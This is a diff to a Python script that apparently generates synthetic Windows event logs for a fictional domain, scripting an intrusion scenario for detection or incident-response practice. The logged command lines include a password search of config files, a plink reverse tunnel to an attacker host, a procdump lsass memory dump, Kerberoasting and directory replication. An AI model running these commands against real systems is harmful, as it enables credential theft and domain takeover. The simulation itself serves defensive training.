@@ -43,6 +43,14 @@ SCM = ("Service Control Manager", "System")
 DOMAIN = "ARMORIQUE"
 DNS = "ARMORIQUE.LOCAL"
 SID = "S-1-5-21-1487526315-2563912468-3470518206"
+# Relative ids of the accounts the model lists (its identifiers); other staff get
+# ids the model does not know.
+RIDS = {"svc-emp": 1104, "svc-prov": 1105, "svc-crm": 1106, "svc-billing": 1107,
+        "svc-backup": 1108, "svc-deploy": 1110, "adm-it-sroux": 1115, "c.legall": 1130}
+
+
+def sid_of(name):
+    return f"{SID}-{RIDS.get(name, 5000 + sum(map(ord, name)) % 4000)}"
 
 # Hosts: (FQDN as the event log writes it, address), from the model's identifiers.
 EMPWEB = ("empweb01.dmz.armorique.fr", "172.16.20.10")
@@ -118,11 +126,10 @@ def proc(t, host, image, cmd, parent, user, parent_cmd=None):
     })
 
 
-def logon(t, host, user, logon_type, ip, workstation="-", domain=DOMAIN, rid=None,
-          package="Kerberos"):
+def logon(t, host, user, logon_type, ip, workstation="-", domain=DOMAIN, package="Kerberos"):
     ev(t, SECURITY, 4624, host, {
         "SubjectUserSid": "S-1-0-0", "SubjectUserName": "-", "SubjectDomainName": "-",
-        "TargetUserSid": f"{SID}-{rid}" if rid else f"{SID}-{5000 + sum(map(ord, user)) % 4000}",
+        "TargetUserSid": sid_of(user),
         "TargetUserName": user, "TargetDomainName": domain, "TargetLogonId": "0x%x" % rng.getrandbits(28),
         "LogonType": logon_type, "LogonProcessName": "NtLmSsp" if package == "NTLM" else "Kerberos",
         "AuthenticationPackageName": package, "WorkstationName": workstation,
@@ -146,7 +153,7 @@ def failed(t, host, user, ip, workstation):
 def ticket(t, dc, user, service, ip, enc="0x12"):
     ev(t, SECURITY, 4769, dc, {
         "TargetUserName": f"{user}@{DNS}", "TargetDomainName": DNS, "ServiceName": service,
-        "ServiceSid": f"{SID}-{3000 + sum(map(ord, service)) % 900}", "TicketOptions": "0x40810000",
+        "ServiceSid": sid_of(service), "TicketOptions": "0x40810000",
         "TicketEncryptionType": enc, "IpAddress": f"::ffff:{ip}", "IpPort": str(rng.randint(49152, 65535)),
         "Status": "0x0", "LogonGuid": "{%08x-0000-0000-0000-000000000000}" % rng.getrandbits(32),
     })
@@ -214,7 +221,7 @@ def noise_day(day):
         ticket(at(day, h, 5), DC1[0], "k.morvan", "NAS-ARCHIVE01$", "10.20.11.17", enc="0x17")
     # Nightly backup: the backup account logs on to the DCs and the file server.
     for host in (DC1, DC2, FILES):
-        logon(at(day, 1, 0, rng.random() * 60), host[0], "svc-backup", 3, BKP[1], "BKP01", rid=1108)
+        logon(at(day, 1, 0, rng.random() * 60), host[0], "svc-backup", 3, BKP[1], "BKP01")
         proc(at(day, 1, 1), BKP[0], "C:\\Program Files\\Veritas\\NetBackup\\bin\\bpbackup.exe",
              f"bpbackup.exe -p DAILY -s FULL -h {host[0]}", "C:\\Windows\\System32\\services.exe",
              f"{DOMAIN}\\svc-backup")
@@ -224,7 +231,7 @@ def noise_day(day):
     # Admin work on the bastion from the VPN pool.
     for h in (9, 14):
         t = at(day, h, 10)
-        logon(t, BASTION1[0], "adm-it-sroux", 10, "10.30.0.%d" % rng.randint(20, 200), "LT-SROUX", rid=1119)
+        logon(t, BASTION1[0], "adm-it-sroux", 10, "10.30.0.%d" % rng.randint(20, 200), "LT-SROUX")
         proc(t + timedelta(minutes=2), BASTION1[0], "C:\\Windows\\System32\\mmc.exe",
              '"C:\\Windows\\system32\\mmc.exe" "C:\\Windows\\system32\\dsa.msc"',
              "C:\\Windows\\explorer.exe", f"{DOMAIN}\\adm-it-sroux")
@@ -247,7 +254,7 @@ def story():
     proc(t(0, 21, 20, 13), EMPWEB[0], "C:\\Windows\\System32\\findstr.exe",
          'findstr /s /i "password" D:\\ArmoriquePro\\conf\\*.config', cmd, pool)
     # 2. svc-emp's password used from the front against the application server.
-    logon(t(0, 21, 41, 2), EMPAPP[0], "svc-emp", 3, EMPWEB[1], "EMPWEB01", rid=1104, package="NTLM")
+    logon(t(0, 21, 41, 2), EMPAPP[0], "svc-emp", 3, EMPWEB[1], "EMPWEB01", package="NTLM")
     tomcat = "D:\\EMP\\tomcat\\bin\\tomcat9.exe"
     me = f"{DOMAIN}\\svc-emp"
     ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
@@ -261,17 +268,17 @@ def story():
     proc(t(0, 22, 20), EMPAPP[0], "C:\\ProgramData\\emp\\plink.exe",
          f"plink.exe -ssh -batch -R 4443:{PROV[1]}:445 tun@{ATTACKER} -P 443", ps, me)
     # 3. Provisioning, with svc-prov taken from EMPAPP01's memory.
-    logon(t(0, 22, 48, 10), PROV[0], "svc-prov", 3, EMPAPP[1], "EMPAPP01", rid=1105, package="NTLM")
+    logon(t(0, 22, 48, 10), PROV[0], "svc-prov", 3, EMPAPP[1], "EMPAPP01", package="NTLM")
     service(t(0, 22, 48, 12), PROV[0], "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe", start="demand start")
     psexesvc = "C:\\Windows\\PSEXESVC.exe"
     proc(t(0, 22, 48, 14), PROV[0], cmd, "cmd.exe", psexesvc, f"{DOMAIN}\\svc-prov")
-    proc(t(0, 22, 55), PROV[0], "C:\\ProgramData\\p64.exe\\procdump64.exe",
+    proc(t(0, 22, 55), PROV[0], "C:\\ProgramData\\procdump64.exe",
          "procdump64.exe -accepteula -ma lsass.exe C:\\ProgramData\\l.dmp", cmd, f"{DOMAIN}\\svc-prov")
     # 4. Kerberoasting from PROV01: RC4 tickets for user-run services.
     for i, svc in enumerate(("svc-backup", "svc-crm", "svc-billing")):
         ticket(t(0, 23, 30, 2 + i), DC1[0], "svc-prov", svc, PROV[1], enc="0x17")
     # 5. Day two: svc-backup (cracked offline; a Domain Admin) takes the directory.
-    logon(t(1, 1, 35, 1), DC1[0], "svc-backup", 3, PROV[1], "PROV01", rid=1108, package="NTLM")
+    logon(t(1, 1, 35, 1), DC1[0], "svc-backup", 3, PROV[1], "PROV01", package="NTLM")
     replication(t(1, 1, 35, 9), DC1[0], "svc-backup", f"{SID}-1108")
     ev(t(1, 1, 52), SECURITY, 4720, DC1[0], {
         "TargetUserName": "adm-maint", "TargetDomainName": DOMAIN, "TargetSid": f"{SID}-4187",
